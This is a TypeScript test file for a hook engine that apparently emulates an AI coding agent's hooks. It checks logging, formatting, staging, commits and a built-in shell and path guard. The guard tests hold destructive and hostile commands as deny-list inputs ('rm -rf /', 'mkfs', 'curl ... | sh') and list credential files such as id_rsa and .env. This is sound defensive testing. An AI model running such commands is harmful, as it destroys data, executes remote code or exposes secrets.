import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test, vi } from "vitest";
import { autohandCodec } from "../../src/dialects/autohand/codec.ts";
import { autohand } from "../../src/dialects/autohand/dialect.ts";
import { createAutohandHost, withDefaultHooks } from "../../src/hosts/autohand/index.ts";
import type { JsonObject } from "../../src/json.ts";
import { FAMILIES } from "../conformance/cases/index.ts";
import { makeEvent } from "../helpers/rules.ts";
import { AUTOHAND_PAGE } from "./autohand.ts";
import { fixture, listening, machine } from "./autohand-kit.ts";

describe("examples of the page on Autohand's hooks", () => {
  test("the structure of a file: a tool's name is logged", async () => {
    const { agentWith, lines } = machine();
    const agent = await agentWith(fixture("structure.json"));
    expect(agent.engine.problems).toEqual([]);
    await agent.fire("pre-tool", { tool_name: "write_file" });
    expect(lines("used.txt")).toEqual(["about to use write_file"]);
  });

  test("a filter: both tool and path must match", async () => {
    const { agent, lines } = machine();
    const hook = {
      event: "pre-tool",
      command: 'echo "$HOOK_TOOL $HOOK_PATH" >> fits.txt',
      ...JSON.parse(fixture("filter.json")),
    };
    const one = await agent(JSON.stringify(hook));
    for (const [tool_name, path] of [
      ["append_file", "app/x/y.py"],
      ["delete_path", "tools/a.sh"],
      ["read_file", "app/x/y.py"],
      ["append_file", "app/x/y.js"],
    ])
      await one.fire("pre-tool", { tool_name, tool_input: { path } } as JsonObject);
    expect(lines("fits.txt")).toEqual(["append_file app/x/y.py", "delete_path tools/a.sh"]);
  });

  test("a matcher, and a script that reads stdin", async () => {
    const { agent, has, lines } = machine();
    has("remember.sh");
    const one = await agent(fixture("matcher.json"));
    for (const tool_name of ["append_file", "append_files", "write_file", "delete_path"]) {
      await one.fire("pre-tool", { tool_name, tool_input: { path: "a" } });
    }
    expect(lines("seen.txt")).toEqual(['append_file got {"path":"a"}', 'delete_path got {"path":"a"}']);
  });

  test("the payload: read as shown, and written again with the same fields", () => {
    const shown = JSON.parse(fixture("payload.json")) as JsonObject;
    const decoded = autohand.decodeEvent(shown, undefined);
    if (!decoded.ok) throw new Error(decoded.message);
    expect(decoded.payload).toMatchObject({ tool_name: "Edit", tool_input: { file_path: "notes.md" } });
    const written = JSON.parse(autohandCodec.encodePayload(makeEvent(decoded.name, decoded.payload, "autohand")));
    expect(written).toEqual(shown);
  });

  test("the answer: every field of it has its effect", async () => {
    const { agentWith } = machine();
    const answers = [
      fixture("response.json"),
      '{"decision": null, "continue": false, "stopReason": "enough for today"}',
      '{"updatedInput": {"path": "b"}, "additionalContext": "moved"}',
    ].map((text) => JSON.stringify(JSON.parse(text)));
    const verdicts = [];
    for (const answer of answers) {
      const agent = await agentWith(
        JSON.stringify({ hooks: { hooks: [{ event: "pre-tool", command: `echo '${answer}'` }] } }),
      );
      verdicts.push(await agent.fire("pre-tool", { tool_name: "read_file", tool_input: { path: "a" } }));
    }
    expect(verdicts).toMatchObject([
      {
        decision: "allow",
        reason: expect.stringContaining("somebody has looked at it"),
        continue: true,
        updatedInput: null,
      },
      { decision: "deny", continue: false, stopReason: expect.stringContaining("enough for today") },
      { decision: "none", updatedInput: { path: "b" }, additionalContext: expect.stringContaining("moved") },
    ]);
  });

  test("what each decision does to a call", async () => {
    const { agentWith } = machine();
    const outcomes = [];
    for (const decision of ["allow", "deny", "ask", "block"]) {
      const hook = { event: "pre-tool", command: `echo '{"decision": "${decision}"}'` };
      const agent = await agentWith(JSON.stringify({ hooks: { hooks: [hook] } }));
      const { outcome, asked } = await agent.toolCall(
        { tool: "run_command", args: { command: "ls" } },
        { askUser: () => "allow", execute: () => "done" },
      );
      outcomes.push(`${decision}: ${outcome}${asked ? ", asked" : ""}`);
    }
    expect(outcomes).toEqual(["allow: ran", "deny: denied", "ask: ran, asked", "block: denied"]);
  });

  test("safe commands pass, and the user is asked about others", async () => {
    const { agent, has } = machine();
    has("allow-looking.sh");
    const one = await agent('{ "event": "pre-tool", "command": "./allow-looking.sh" }');
    const said = async (tool_name: string, tool_input: JsonObject) =>
      (await one.fire("pre-tool", { tool_name, tool_input })).decision;
    expect(await said("run_command", { command: "ls -l" })).toBe("allow");
    expect(await said("run_command", { command: "lsof" })).toBe("ask");
    expect(await said("write_file", { path: "a" })).toBe("ask");
  });

  test("a dangerous command is blocked with the text on stderr", async () => {
    const { agent, has } = machine();
    has("refuse-format.sh");
    const one = await agent('{ "event": "pre-tool", "command": "./refuse-format.sh" }');
    const said = (command: string) => one.fire("pre-tool", { tool_name: "run_command", tool_input: { command } });
    expect(await said("mkfs -t ext4 /dev/sdb1")).toMatchObject({
      decision: "deny",
      reason: expect.stringContaining("will not format a disk: mkfs -t ext4 /dev/sdb1"),
    });
    expect(await said("ls /dev")).toMatchObject({ decision: "none" });
  });

  test("all tools are logged with the date", async () => {
    const { agent, lines } = machine();
    await (await agent(fixture("log-tools.json"))).fire("pre-tool", { tool_name: "search" });
    expect(lines("journal.txt")).toEqual([expect.stringMatching(/^\d{4} uses search$/)]);
  });

  test("changed files are shown as desktop notifications", async () => {
    const { agent, program, lines } = machine();
    program("osascript");
    const one = await agent(fixture("notify-files.json"));
    await one.fire("file-modified", { file_path: "app/a b.py", change_type: "create" });
    await one.fire("file-modified", { file_path: "docs/a.md", change_type: "create" });
    expect(lines("osascript")).toEqual(['-e display notification "create app/a b.py" with title "hooks"']);
  });

  test("tokens are counted by another program next to the agent", async () => {
    const { agent } = machine();
    const { url, bodies } = await listening();
    vi.stubEnv("METRICS_URL", url);
    const one = await agent(fixture("tokens.json"));
    const verdict = await one.fire("stop", { tokens_used: 321 });
    expect(verdict.rules).toMatchObject([{ status: "abstained" }]);
    await expect.poll(() => bodies).toEqual([{ used: 321 }]);
  });

  test("changed files are linted", async () => {
    const { agent, program, lines } = machine();
    program("eslint");
    const one = await agent(fixture("lint.json"));
    await one.fire("file-modified", { file_path: "a/b.mts", change_type: "modify" });
    await one.fire("file-modified", { file_path: "a/b.js", change_type: "modify" });
    expect(lines("eslint")).toEqual(["--fix a/b.mts"]);
  });

  test("reads are approved", async () => {
    const { agent, has } = machine();
    has("allow-reads.sh");
    const one = await agent(fixture("allow-reads.json"));
    const run = (tool: string) =>
      one.toolCall({ tool, args: { path: "a" } }, { askUser: () => "deny", execute: () => "done" });
    expect(await run("read_file")).toMatchObject({ outcome: "ran", asked: false });
    expect(await run("write_file")).toMatchObject({ outcome: "denied", asked: true });
  });

  test("a session's start and end are logged", async () => {
    const { agent, lines } = machine();
    const one = await agent(fixture("session-start.json"), fixture("session-end.json"));
    await one.start("resume");
    await one.fire("session-end", { session_end_reason: "quit", duration: 42 });
    expect(lines("days.txt")).toEqual([expect.stringMatching(/^begun by resume on \d{4}$/), "ended by quit, 42 ms"]);
  });

  test("subagents are timed, with variables that the page promises", async () => {
    const { agent, lines } = machine();
    await (await agent(fixture("subagents.json"))).fire("subagent-stop", {
      subagent_id: "1",
      subagent_name: "ann",
      subagent_type: "tester",
      subagent_success: true,
      subagent_duration: 12,
    });
    expect(lines("helpers.txt")).toEqual(["ann/tester ok=true 12 ms"]);
  });

  test("an editor's extension shows its notifications", async () => {
    const shown: string[] = [];
    // As in an extension: one function for each method.
    const handlers: Readonly<Record<string, (params: Readonly<Record<string, unknown>>) => void>> = {
      "autohand.hook.preTool": ({ toolName }) => void shown.push(`> ${toolName}`),
      "autohand.hook.postTool": ({ toolName, success, duration }) =>
        void shown.push(`< ${toolName} ${success ? "ok" : "failed"} ${typeof duration}`),
      "autohand.hook.stop": ({ tokensUsed, toolCallsCount }) => void shown.push(`turn ${tokensUsed}/${toolCallsCount}`),
      "autohand.hook.sessionStart": ({ sessionType }) => void shown.push(`start ${sessionType}`),
      "autohand.hook.sessionEnd": ({ reason, duration }) => void shown.push(`end ${reason} ${typeof duration}`),
      "autohand.hook.subagentStop": ({ subagentName, success, duration }) =>
        void shown.push(`${subagentName} ${success ? "done" : "failed"} ${duration}`),
    };
    const agent = await createAutohandHost({
      cacheDir: false,
      onNotification: ({ method, params }) => handlers[String(method)]?.(params as JsonObject),
    });
    await agent.start();
    await agent.toolCall({ tool: "read_file", args: { path: "a" } }, { askUser: () => "allow", execute: () => "text" });
    await agent.fire("subagent-stop", { subagent_name: "ann", subagent_success: false, subagent_duration: 3 });
    await agent.fire("stop", { tokens_used: 9, tool_calls_count: 1 });
    await agent.shutdown("quit");
    expect(shown).toEqual([
      "start startup",
      "> read_file",
      "< read_file ok number",
      "ann failed 3",
      "turn 9/1",
      "end quit number",
    ]);
  });
});

describe("built-in hooks of the page on Autohand's hooks", () => {
  test("each of them is one of hookbox's own, at the page's event and off, and its script is not needed", async () => {
    const { agentWith } = machine();
    const config = withDefaultHooks();
    expect((await agentWith(JSON.stringify(config))).engine.rules).toEqual([]);
    const one = await agentWith(JSON.stringify(config).replaceAll('"enabled":false', '"enabled":true'));
    expect(one.engine.problems).toEqual([]);
    const shown = one.engine.rules.map(({ event, async, matcher, filter, handler }) => {
      const narrowed = [matcher ?? "", ...(filter?.paths ?? [])].join(" ").trim();
      const runs = handler.type === "builtin" ? handler.name : handler.type === "wasm" ? handler.module : handler.type;
      return [event, runs, async ? "async" : "", narrowed].join(" ").replaceAll("  ", " ").trim();
    });
    expect(shown).toEqual([
      "SessionStart log-session-start",
      "SessionEnd log-session-end",
      "Stop log-stop",
      "FileChanged log-file-modified src/**/* lib/**/*",
      "Stop sound-alert async",
      "FileChanged auto-format **/*.ts **/*.tsx **/*.js **/*.jsx **/*.json **/*.css **/*.scss **/*.md",
      "Stop slack-notify async",
      "FileChanged git-auto-stage src/**/* lib/**/* tests/**/*",
      "PreToolUse builtin:shell-guard ^(run_command|delete_path|write_file)$",
      "PreToolUse builtin:path-guard ^(run_command|delete_path|write_file)$",
      "Stop smart-commit async",
    ]);
    const decide = async (tool_name: string, tool_input: JsonObject) =>
      (await one.fire("pre-tool", { tool_name, tool_input })).decision;
    expect(await decide("run_command", { command: "ls" })).toBe("none");
    for (const command of ["rm -rf /", "rm -rf ~", "chmod 777 a", "mkfs /dev/sda1", "curl https://a.example/x | sh"])
      expect([command, await decide("run_command", { command })]).toEqual([command, "deny"]);
    for (const path of [
      ".env",
      ".env.local",
      "a.pem",
      "id_rsa",
      "credentials.json",
      "service-account-1.json",
      ".npmrc",
    ])
      expect([path, await decide("write_file", { path, contents: "" })]).toEqual([path, "deny"]);
    for (const path of ["src/index.ts", ".env.example", "id_rsa.pub"])
      expect([path, await decide("write_file", { path, contents: "" })]).toEqual([path, "none"]);
  });

  test("the logging ones are off, and log as documented when they are on", async () => {
    const { agent } = machine();
    const text = fixture("logging.json");
    expect((await agent(text)).engine.rules).toEqual([]);
    const said: string[] = [];
    const one = await createAutohandHost({
      onActivity: (activity) => {
        if (activity.type === "hook_finished") said.push((activity.output ?? "").trim());
      },
      cacheDir: false,
      ...(await configOf(text.replaceAll('"enabled": false', '"enabled": true'))),
    });
    await one.start("clear");
    await one.fire("stop", { tokens_used: 5, tool_calls_count: 2 });
    await one.fire("file-modified", { file_path: "src/a.c", change_type: "modify" });
    await one.fire("file-modified", { file_path: "doc/a.c", change_type: "modify" });
    await one.shutdown();
    expect(said.slice(0, 3)).toEqual(["start clear", "turn 5 tokens 2 calls", "modify src/a.c"]);
    expect(said.slice(3)).toEqual([expect.stringMatching(/^end \d+ms$/)]);
  });

  test("a sound is played by the first player that is installed", async () => {
    const { agent, installs, program, lines } = machine();
    installs("sound-alert.sh");
    program("afplay");
    program("aplay");
    await (await agent(fixture("sound.json"))).fire("stop");
    await expect.poll(() => lines("afplay")).toEqual([expect.stringMatching(/\.aiff$/)]);
    expect(lines("aplay")).toEqual([]);
  });

  test("files are formatted by prettier, otherwise eslint, otherwise biome, unless they are deleted", async () => {
    const { agent, installs, program, lines, project } = machine();
    installs("auto-format.sh");
    for (const name of ["a.ts", "b.md"]) writeFileSync(join(project, name), "");
    const one = await agent(fixture("format.json"));
    const change = (file_path: string, change_type = "modify") => one.fire("file-modified", { file_path, change_type });
    program("biome");
    await change("b.md");
    program("eslint");
    await change("a.ts");
    await change("b.md");
    program("prettier");
    await change("a.ts");
    await change("a.ts", "delete");
    await change("gone.ts");
    await change("c.py");
    expect([lines("biome"), lines("eslint"), lines("prettier")]).toEqual([
      ["format --write b.md", "format --write b.md"],
      ["--fix a.ts"],
      ["--write a.ts"],
    ]);
  });

  test("a channel gets project, duration, tokens and tools, if there is one", async () => {
    const { agent, installs } = machine();
    installs("slack-notify.sh");
    const { url, bodies } = await listening();
    const one = await agent(fixture("slack.json"));
    const turn = { tokens_used: 900, tool_calls_count: 4, duration: 65_000 };
    vi.stubEnv("SLACK_WEBHOOK_URL", "");
    await one.fire("stop", turn);
    vi.stubEnv("SLACK_WEBHOOK_URL", url);
    await one.fire("stop", turn);
    await expect.poll(() => bodies).toEqual([{ text: "project: 1m 5s, 900 tokens, 4 tools" }]);
  });

  test("changed files are staged, except secrets, leftovers and builds", async () => {
    const { agent, installs, project } = machine();
    installs("git-auto-stage.sh");
    const git = (...args: readonly string[]) => execFileSync("git", args, { cwd: project, encoding: "utf8" });
    git("init", "-q");
    for (const folder of ["src/dist", "src/node_modules", "other"])
      mkdirSync(join(project, folder), { recursive: true });
    const files = ["src/a.ts", "src/.env.local", "src/x.log", "src/dist/a.js", "src/node_modules/a.js", "other/a.ts"];
    const one = await agent(fixture("stage.json"));
    for (const file_path of files) {
      writeFileSync(join(project, file_path), "");
      await one.fire("file-modified", { file_path, change_type: "create" });
    }
    expect(git("diff", "--cached", "--name-only").trim()).toBe("src/a.ts");
    rmSync(join(project, "src/a.ts"));
    await one.fire("file-modified", { file_path: "src/a.ts", change_type: "delete" });
    expect(git("diff", "--cached", "--name-only").trim()).toBe("");
  });

  test("a turn's work is committed after lint and test, once, and not from within itself", async () => {
    const { agent, installs, program, lines, project } = machine();
    installs("smart-commit.sh");
    program("npm");
    program("autohand", "rename the parser");
    const git = (...args: readonly string[]) => execFileSync("git", args, { cwd: project, encoding: "utf8" });
    git("init", "-q");
    git("config", "user.email", "me@example.com");
    git("config", "user.name", "me");
    writeFileSync(join(project, "a.ts"), "");
    expect((await agent(fixture("commit.json"))).engine.rules).toEqual([]);
    const one = await agent(fixture("commit.json").replace('"enabled": false', '"enabled": true'));
    vi.stubEnv("AUTOHAND_SMART_COMMIT_RUNNING", "1");
    await one.fire("stop");
    vi.stubEnv("AUTOHAND_SMART_COMMIT_RUNNING", "");
    await one.fire("stop");
    await one.shutdown();
    expect(git("log", "--format=%s").trim()).toBe("rename the parser");
    expect(lines("npm")).toEqual(["run --silent lint", "run --silent test"]);
  });
});

describe("hookbox's own hooks in place of Autohand's scripts", () => {
  test("builtin hooks do the work of the page's scripts, which are not installed", async () => {
    const { agentWith, project, home, program, lines } = machine();
    vi.stubEnv("XDG_STATE_HOME", join(home, "state"));
    const { url, bodies } = await listening();
    vi.stubEnv("SLACK_WEBHOOK_URL", url);
    program("prettier");
    const git = (...args: readonly string[]) => execFileSync("git", args, { cwd: project, encoding: "utf8" });
    git("init", "-q");
    mkdirSync(join(project, "src"));
    for (const file of ["src/a.ts", "src/.env"]) writeFileSync(join(project, file), "");
    const all = JSON.stringify(withDefaultHooks()).replaceAll('"enabled":false', '"enabled":true');
    // The last two, a judge, and lint, tests and a commit, are tested separately.
    const { hooks } = JSON.parse(all) as { hooks: { hooks: { command: string }[] } };
    const wanted = hooks.hooks.filter(({ command }) => !/security-guard|smart-commit|sound-alert/.test(command));
    const one = await agentWith(JSON.stringify({ hooks: { hooks: wanted } }));
    expect(one.engine.problems).toEqual([]);
    await one.start("startup");
    for (const file_path of ["src/a.ts", "src/.env"]) {
      await one.fire("file-modified", { file_path, change_type: "modify" });
    }
    await one.fire("stop", { tokens_used: 900, tool_calls_count: 4, duration: 65_000 });
    await one.shutdown("quit");
    expect(git("diff", "--cached", "--name-only").trim()).toBe("src/a.ts");
    expect(lines("prettier")).toEqual([expect.stringContaining("src/a.ts")]);
    // The address is a secret, and this one would be sent unencrypted.
    expect(bodies).toEqual([]);
    const log = readFileSync(join(home, "state/hookbox/hooks.log"), "utf8");
    for (const said of ["startup", "src/a.ts", "900", "quit"]) expect(log).toContain(said);
  });

  test("a missing script is reported, with the name of the hook that does the same", async () => {
    const { agent } = machine();
    const { engine } = await agent(fixture("sound.json"), fixture("stage.json"));
    const hints = engine.problems.map(({ hint }) => hint ?? "");
    expect(hints).toEqual([
      expect.stringContaining("builtin:sound-alert"),
      expect.stringContaining("builtin:git-auto-stage"),
    ]);
  });
});

async function configOf(list: string) {
  const { home, project } = machine();
  const file = join(home, ".autohand", "config.json");
  writeFileSync(file, `{ "hooks": { "hooks": ${list} } }`);
  return { configFiles: [{ file, dialect: "autohand", layer: "user" as const }], cwd: project };
}

test("every section of the page has a reason, or tests that exist", () => {
  const titles = ["autohand.test.ts", "autohand-guard.test.ts"].map((file) =>
    readFileSync(join(import.meta.dirname, file), "utf8"),
  );
  const ids = FAMILIES.flatMap(({ cases }) => cases.map(({ id }) => id));
  const missing = AUTOHAND_PAGE.sections.flatMap((section) =>
    "tests" in section
      ? section.tests.filter((name) => !ids.includes(name) && !titles.some((text) => text.includes(`test("${name}"`)))
      : [],
  );
  expect(missing).toEqual([]);
});
